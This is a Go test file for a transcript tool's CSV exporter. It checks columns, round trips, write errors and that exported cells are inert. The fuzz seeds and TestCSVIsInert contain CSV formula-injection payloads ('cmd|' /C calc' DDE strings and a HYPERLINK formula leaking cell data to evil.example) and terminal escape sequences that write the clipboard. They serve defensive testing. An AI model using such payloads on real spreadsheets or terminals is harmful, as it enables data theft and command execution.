package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/cuff-dev/cuff/transcript"
)

func TestCSVColumnsMatchPositions(t *testing.T) {
	cols := CSVColumns()
	if len(cols) != numColumns {
		t.Fatalf("%d column names, %d positions", len(cols), numColumns)
	}
	seen := map[string]bool{}
	for _, c := range cols {
		if seen[c] {
			t.Errorf("column %q twice", c)
		}
		seen[c] = true
	}
	for name, i := range map[string]int{"session_id": colSessionID, "command": colCommand, "exit_code": colExitCode,
		"stdout": colStdout, "decision": colDecision, "input": colInput, "raw": colRaw, "counts": colCounts} {
		if cols[i] != name {
			t.Errorf("position of %s is %d, which is %s", name, i, cols[i])
		}
	}
}

// TestCSVRoundTrip exports two real sessions and reads the file back with
// encoding/csv: one row per event, every value as recorded once made inert
// (CSVCell).
func TestCSVRoundTrip(t *testing.T) {
	s := fixtureStore(t)
	old := recordSession(t, s, time.Now().Add(-2*time.Hour), everyKind)
	hostile := "a,b \"quoted\"\nsecond line\r\n\x1b[31mred\x00 ‮ end"
	newer := recordSession(t, s, time.Now().Add(-time.Hour), func(add func(transcript.Body, string, string) *transcript.Event) {
		add(&transcript.BashRun{Command: "echo '" + hostile + "'", ExitCode: ptrInt(0), Stdout: hostile,
			Environment: map[string]string{"PATH": "/bin"}}, "x", "")
	})
	var buf bytes.Buffer
	w, err := NewCSVWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	res := exportTo(t, s, w)
	want := append(readAll(t, s, old), readAll(t, s, newer)...)
	if res.Events != int64(len(want)) {
		t.Errorf("result counts %d events, want %d", res.Events, len(want))
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("csv does not parse: %v", err)
	}
	if len(rows) != len(want)+1 {
		t.Fatalf("%d rows for %d events (+ header)", len(rows), len(want))
	}
	if strings.Join(rows[0], ",") != strings.Join(CSVColumns(), ",") {
		t.Errorf("header %q", rows[0])
	}
	for i, ev := range want {
		row := rows[i+1]
		if len(row) != numColumns {
			t.Fatalf("row %d has %d fields", i+1, len(row))
		}
		if row[colSessionID] != ev.SessionID || row[colType] != string(ev.Type) || row[colID] != ev.ID {
			t.Errorf("row %d envelope %q %q %q, want %s %s %s", i+1, row[colSessionID], row[colType], row[colID], ev.SessionID, ev.Type, ev.ID)
		}
		if ev.TS.IsZero() && row[colTS] != "" {
			t.Errorf("row %d: no ts written as %q", i+1, row[colTS])
		} else if ts, err := time.Parse(time.RFC3339Nano, row[colTS]); !ev.TS.IsZero() && (err != nil || !ts.Equal(ev.TS.Truncate(time.Microsecond))) {
			t.Errorf("row %d ts %q (%v), want %v", i+1, row[colTS], err, ev.TS)
		}
		switch b := ev.Body.(type) {
		case *transcript.BashRun:
			if row[colCommand] != CSVCell(b.Command) || row[colStdout] != CSVCell(b.Stdout) || row[colStderr] != CSVCell(b.Stderr) {
				t.Errorf("row %d bash fields %q %q", i+1, row[colCommand], row[colStdout])
			}
			if b.ExitCode != nil && row[colExitCode] != map[int]string{0: "0", 1: "1"}[*b.ExitCode] {
				t.Errorf("row %d exit code %q", i+1, row[colExitCode])
			}
			if b.ExitCode == nil && row[colExitCode] != "" {
				t.Errorf("row %d: no exit code written as %q", i+1, row[colExitCode])
			}
			if len(b.Environment) > 0 && row[colEnvironment] != `{"PATH":"/bin"}` {
				t.Errorf("environment %q", row[colEnvironment])
			}
		case *transcript.ToolCall:
			if row[colTool] != b.Tool || !json.Valid([]byte(row[colInput])) || row[colInput] != string(b.Input) {
				t.Errorf("row %d tool call %q %q", i+1, row[colTool], row[colInput])
			}
		case *transcript.ApprovalDecision:
			if row[colDecision] != "deny" || row[colBy] != "tui" {
				t.Errorf("decision row %q", row)
			}
		case nil:
			if row[colRaw] != string(ev.Raw) || row[colType] != "future_kind" {
				t.Errorf("unknown kind row: raw %q type %q", row[colRaw], row[colType])
			}
		}
		if ev.Body != nil && row[colRaw] != "" {
			t.Errorf("row %d: raw set for a known kind", i+1)
		}
	}
}

func TestCSVEmptyExportHasHeader(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewCSVWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Close(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 1 {
		t.Errorf("empty export: %v %q", err, rows)
	}
}

type failingWriter struct{ after int }

func (f *failingWriter) Write(p []byte) (int, error) {
	if f.after -= len(p); f.after < 0 {
		return 0, errors.New("disk full")
	}
	return len(p), nil
}

func TestCSVWriteErrorIsReported(t *testing.T) {
	s := fixtureStore(t)
	recordSession(t, s, time.Now(), everyKind)
	w, err := NewCSVWriter(&failingWriter{after: 100})
	if err != nil {
		t.Fatal(err)
	}
	_, err = WriteSessions(t.Context(), w, infos(t, s), s.ReadEvents)
	if err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("error %v, want disk full", err)
	}
}

// FuzzCSVRow checks that any text in any field makes exactly one row that
// reads back as CSVCell of the text: inert, and never a formula.
func FuzzCSVRow(f *testing.F) {
	f.Add("git status", "out\n", "")
	f.Add("a,\"b\"", "\r\n\x00", "\xff\xfe")
	f.Add("", "", "=cmd|'/C calc'!A0")
	f.Add("+1", "-2.5e3", "@SUM(A1)")
	f.Add("\tx", "\r=1", "-1+cmd|' /C calc'!A0")
	f.Fuzz(func(t *testing.T, command, stdout, text string) {
		var buf bytes.Buffer
		w, err := NewCSVWriter(&buf)
		if err != nil {
			t.Fatal(err)
		}
		evs := []*transcript.Event{
			transcript.New("s", time.Unix(1, 0), &transcript.BashRun{Command: command, Stdout: stdout}),
			transcript.New("s", time.Unix(2, 0), &transcript.ChatTurn{Role: "user", Text: text}),
		}
		for _, ev := range evs {
			if err := w.Write(ev); err != nil {
				t.Fatal(err)
			}
		}
		if _, err := w.Close(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		var rows [][]string
		for {
			row, err := r.Read()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("read back: %v", err)
			}
			rows = append(rows, row)
		}
		if len(rows) != 3 || rows[1][colCommand] != CSVCell(command) || rows[1][colStdout] != CSVCell(stdout) || rows[2][colText] != CSVCell(text) {
			t.Errorf("round trip of %q %q %q: %q", command, stdout, text, rows)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				checkInertCell(t, cell)
			}
		}
	})
}

// checkInertCell fails unless cell is inert text that no spreadsheet takes
// for a formula.
func checkInertCell(t *testing.T, cell string) {
	t.Helper()
	if !transcript.IsInert(cell) {
		t.Errorf("cell %q is not inert", cell)
	}
	if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		if _, err := strconv.ParseFloat(cell, 64); err != nil {
			t.Errorf("cell %q starts a formula", cell)
		}
	}
}

// TestCSVIsInert: what a hostile recording holds — a terminal title escape,
// a clipboard write, spreadsheet formulas — is written as visible text, in
// a file or on a terminal: a cat of the CSV acts on nothing and a
// spreadsheet evaluates nothing (OWASP's CSV injection rule).
func TestCSVIsInert(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewCSVWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	code := -1
	for _, b := range []transcript.Body{
		&transcript.BashRun{Command: `=HYPERLINK("http://evil.example/?"&A1,"click")`, ExitCode: &code,
			Stdout: "\x1b]0;pwned\x07\x1b]52;c;eA==\x07 \u202e", Stderr: "+cmd|' /C calc'!A0"},
		&transcript.ChatTurn{Role: "user", Text: "@SUM(1+1)*cmd|' /C calc'!A0"},
		&transcript.ChatTurn{Role: "user", Text: "\t=1+1"},
		&transcript.ChatTurn{Role: "user", Text: "\r=1+1"},
		&transcript.ChatTurn{Role: "user", Text: "-2+3"},
	} {
		if err := w.Write(transcript.New("s", time.Unix(1, 0), b)); err != nil {
			t.Fatal(err)
		}
	}
	w.Close()
	if s := buf.String(); strings.ContainsAny(s, "\x1b\x07\u202e") || !strings.Contains(s, `\x1b]0;pwned\x07`) {
		t.Errorf("control characters written raw: %q", s)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			checkInertCell(t, cell)
		}
	}
	if got := rows[1][colCommand]; got != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("formula cell %q", got)
	}
	if got := rows[1][colExitCode]; got != "-1" {
		t.Errorf("a negative number is not a formula: %q", got)
	}
}
